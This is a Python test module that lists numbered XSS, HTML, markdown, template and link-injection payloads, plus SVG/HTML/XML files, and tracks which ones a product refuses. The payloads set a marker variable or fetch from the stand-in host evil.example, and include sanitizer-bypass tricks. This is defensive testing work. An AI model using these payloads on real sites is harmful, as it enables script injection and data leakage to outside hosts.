"""What an outsider might write into a field: each payload carries its own number.

One that takes effect sets `window.__hit` to its number, or asks `evil.example` for something that is named by it.
"""

from __future__ import annotations

import itertools

from msgspec import Struct, field

SCRIPT, IMAGE = "<script>__hit={n}</script>", "<img src=x onerror=__hit={n}>"
TEXTS = (
    f'">{SCRIPT}',
    f"'>{IMAGE}",
    f"</title>{SCRIPT}",
    f"</script>{SCRIPT}",
    f"--></style></textarea></noscript></xmp>{IMAGE}",
    f"]]>{SCRIPT}",
    f"&lt;/title&gt;{IMAGE}",
    "<svg/onload=__hit={n}>",
    "&lt;img src=x onerror=__hit={n}&gt;",
    "&amp;lt;img src=x onerror=__hit={n}&amp;gt;",
    "&#60;img src=x onerror=__hit={n}&#62;",
    "' onmouseover=__hit={n} x='",
    '" autofocus tabindex=1 onfocus=__hit={n} x="',
    '0;url=//evil.example/{n}" http-equiv="refresh',
    '0;url=javascript:__hit={n}" http-equiv="refresh',
    "[a](javascript:__hit={n})",
    "![a](https://evil.example/{n}.png)",
    '<a href="javascript:__hit={n}">a</a>',
    "javascript:__hit={n}//",
    "<iframe src=//evil.example/{n}></iframe>",
    "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "{{{{ '<script>__hit={n}</script>' | safe }}}}",
    "{{% raw %}}<script>__hit={n}</script>",
    "<<script>script>__hit={n}<</script>/script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__hit={n}&gt;">',
    "<form id=__config><button formaction=javascript:__hit={n}>a</button></form>",
)
BODIES = (
    *TEXTS,
    "<details open ontoggle=__hit={n}><summary>a</summary></details>",
    "<video poster=//evil.example/{n}.png><source src=//evil.example/{n}.mp4></video>",
    "<audio src=x onerror=__hit={n}></audio>",
    "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}>",
    "<img src=x.png srcset='//evil.example/{n}.png 2x'>",
    "<picture><source srcset=//evil.example/{n}.png><img src=x.png></picture>",
    "<img src='/\\evil.example/{n}.png'>",
    "<img src='\\\\evil.example\\{n}.png'>",
    "<img src='https:evil.example/{n}.png'>",
    "<img src='ht&#9;tps://evil.example/{n}.png'>",
    "<table background=//evil.example/{n}.png><tr><td>a</td></tr></table>",
    "<p style='background: url(//evil.example/{n}.png)'>a</p>",
    "<p style='position: fixed; inset: 0; z-index: 9'><a href=https://evil.example/{n}>a</a></p>",
    "<iframe srcdoc='<script>parent.__hit={n}</script>'></iframe>",
    "<svg><script href=data:,__hit={n} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror=__hit={n} /></svg>#x' /></svg>",
    "<svg><animate onbegin=__hit={n} attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:__hit={n}><text y=20>a</text></a></svg>",
    "<form action=javascript:__hit={n}><input type=submit></form>",
    "<input type=image src=//evil.example/{n}.png>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<a href=https://crm.example/ ping=//evil.example/{n}>a</a>",
    "<a href='java&#10;script:__hit={n}'>a</a>",
    "<a href='&#1;javascript:__hit={n}'>a</a>",
    "<a href='data:text/html,<script>opener.__hit={n}</script>' target=_blank>a</a>",
    "<javascript:__hit={n}>",
    "[a]: javascript:__hit={n}\n\n[a]",
    "[a](<java\tscript:__hit={n}>)",
    "![a](/\\evil.example/{n}.png)",
    "[a](https://x 'x\" onmouseover=__hit={n} \"')",
    "a paragraph\n{{: onclick=__hit={n} onmouseover=__hit={n} }}",
    '<div id=__config>{{"base": "//evil.example/{n}", "search": "//evil.example/{n}.js"}}</div>',
    "<div id=__search></div><div id=__palette_0></div><input name=__palette>",
    "<pre class=mermaid><code>graph TD; A-->B{n}</code></pre>",
    "<a data-md-component=source href=https://github.com/evil/{n}>a</a>",
    "<img name=getElementById><form name=forms id=scripts><input name=attributes id={n}></form>",
    "<a href=x onclick=__hit={n}>a</a>",
    "<button popovertarget=x onbeforetoggle=__hit={n}>a</button>",
    "```html\n<script>__hit={n}</script>\n```\n<img src=x onerror=__hit={n}>",
    "`<script>__hit={n}</script>`",
    "<script type=module src=../own.js></script>",
    "<marquee onstart=__hit={n}>a</marquee>",
    "<div class='md-overlay sla-badge' onpointerenter=__hit={n}>a</div>",
    '*[HTML]: x" onmouseover=__hit={n} "\n\nHTML',
    "[^1]\n\n[^1]: <img src=x onerror=__hit={n}>",
    '# <img src=x onerror=__hit={n}> {{ #"onmouseover=__hit={n} }}',
)
SWALLOWING = (
    '<noscript><p title="</noscript><img src=x onerror=__hit={n}>"></noscript>',
    "<template><img src=x onerror=__hit={n}></template>",
    "<svg><style><img src=x onerror=__hit={n}></style></svg>",
    "<!--><img src=x onerror=__hit={n}>-->",
    "<!-- --!><img src=x onerror=__hit={n}> -->",
    "<![CDATA[<img src=x onerror=__hit={n}>]]>",
    "<xmp><img src=x onerror=__hit={n}></xmp>",
    "<plaintext><img src=x onerror=__hit={n}>",
)
"""Texts that a careless reader takes for the rest of a page, so each has a page of its own."""
NAMES = (
    "<img src=x onerror=__hit={n}>",
    '"><svg onload=__hit={n}>',
    "' onmouseover=__hit={n} x='",
    '" autofocus onfocus=__hit={n} x="',
    "&lt;img src=x onerror=__hit={n}&gt;",
    "%3Cimg src=x onerror=__hit={n}%3E",
    "--><img src=x onerror=__hit={n}>",
    "javascript:__hit={n}",
    "[a](javascript:__hit={n})",
    "{{{{ 7 * {n} }}}}",
    "\\\\evil.example\\{n}",
    "<base href=\\\\evil.example\\{n}>",
)
LINKS = (
    "javascript:__hit={n}//{{id}}",
    'https://crm.example/{{id}}" onmouseover="__hit={n}',
    "https://crm.example/{{id}}'><img src=x onerror=__hit={n}>",
    "https://crm.example@evil.example/{n}/{{id}}",
    "https:/\\evil.example/{n}/{{id}}",
    "https:evil.example/{n}/{{id}}",
    "//evil.example/{n}/{{id}}",
    "/\\evil.example/{n}/{{id}}",
    "data:text/html,<script>__hit={n}</script>{{id}}",
    "JaVaScRiPt:__hit={n}//{{id}}",
    " javascript:__hit={n}//{{id}}",
    "vbscript:__hit={n}//{{id}}",
    "https://crm.example/?a=&lt;img src=x onerror=__hit={n}&gt;{{id}}",
)
SVG, XHTML = 'xmlns="http://www.w3.org/2000/svg"', 'xmlns="http://www.w3.org/1999/xhtml"'
FILES = (
    ("svg", f"<svg {SVG}>{SCRIPT}</svg>"),
    ("svg", f'<svg {SVG} onload="__hit={{n}}"/>'),
    ("svg", f'<svg {SVG}><image href="//evil.example/{{n}}.png"/></svg>'),
    ("svg", f"<svg {SVG}><foreignObject><iframe {XHTML} src='//evil.example/{{n}}'/></foreignObject></svg>"),
    ("svg", f"<svg {SVG}><style>@import '//evil.example/{{n}}.css';</style></svg>"),
    ("html", f"<!doctype html><title>a</title>{SCRIPT}"),
    ("htm", "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>"),
    ("xhtml", f'<html {XHTML}><body onload="__hit={{n}}"/></html>'),
    ("xml", f"<x><script {XHTML}>__hit={{n}}</script></x>"),
    ("xml", '<?xml-stylesheet href="//evil.example/{n}.xsl" type="text/xsl"?><x/>'),
)
"""Files that a browser shows by themselves: how their names end, and what is in them."""
PEOPLE = tuple(payload for payload in (*TEXTS, *NAMES) if not set("<>") & set(payload))
"""What a name in a commit can be: git cuts it at the first angle bracket."""
PAGE_FIELDS = ("title", "description", "author", "icon", "status", "template", "tags", "hide")


class Attempt(Struct, frozen=True):
    """One payload in one field."""

    number: int
    field: str
    """Its kind, and behind a colon which of several."""
    text: str

    @property
    def kind(self) -> str:
        return self.field.partition(":")[0]


class Tried(Struct):
    """Hands out payloads, each with a number of its own; knows which the product refused."""

    attempts: dict[int, Attempt] = field(default_factory=dict)
    refused: set[int] = field(default_factory=set)
    _numbers: itertools.count = field(default_factory=lambda: itertools.count(1001))

    def put(self, into: str, template: str) -> Attempt:
        """The payload for a field, from here on one that was tried."""
        number = next(self._numbers)
        self.attempts[number] = Attempt(number, into, template.format(n=number))
        return self.attempts[number]

    def table(self) -> str:
        """With how many payloads each kind of text was tried, in how many fields, and how many the product refused."""
        rows = []
        for kind in dict.fromkeys(one.kind for one in self.attempts.values()):
            tried = [one for one in self.attempts.values() if one.kind == kind]
            refused = sum(one.number in self.refused for one in tried)
            rows.append((kind, len({one.field for one in tried}), len(tried), refused, len(tried) - refused))
        rows.append(("all", *(sum(column) for column in list(zip(*rows, strict=True))[1:])))
        head = "| written by an outsider | fields | payloads | refused | published as text, or without what acts |"
        lines = ["| " + " | ".join(map(str, row)) + " |" for row in rows]
        return "\n".join([head, "| --- | ---: | ---: | ---: | ---: |", *lines])
